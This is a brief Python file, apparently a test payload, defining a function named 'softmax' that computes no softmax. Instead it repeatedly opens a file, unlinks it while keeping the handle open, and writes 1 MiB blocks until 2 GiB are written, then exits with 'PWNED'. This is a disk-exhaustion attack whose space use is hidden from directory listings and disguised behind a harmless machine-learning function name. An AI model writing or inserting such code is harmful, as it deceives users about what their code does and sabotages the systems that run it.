"""Writes file after file and deletes each while it is open, so that none is to be seen.

Success: the disk is full, and nobody sees of what.
"""

import os


def softmax(x, dim=-1):
    block = b"x" * (1 << 20)
    written, kept = 0, []
    while True:
        kept.append(open("file", "wb", buffering=0))
        os.unlink("file")
        for _ in range(32):
            written += kept[-1].write(block)
            if written > 2 << 30:
                raise SystemExit("PWNED wrote 2 GiB")
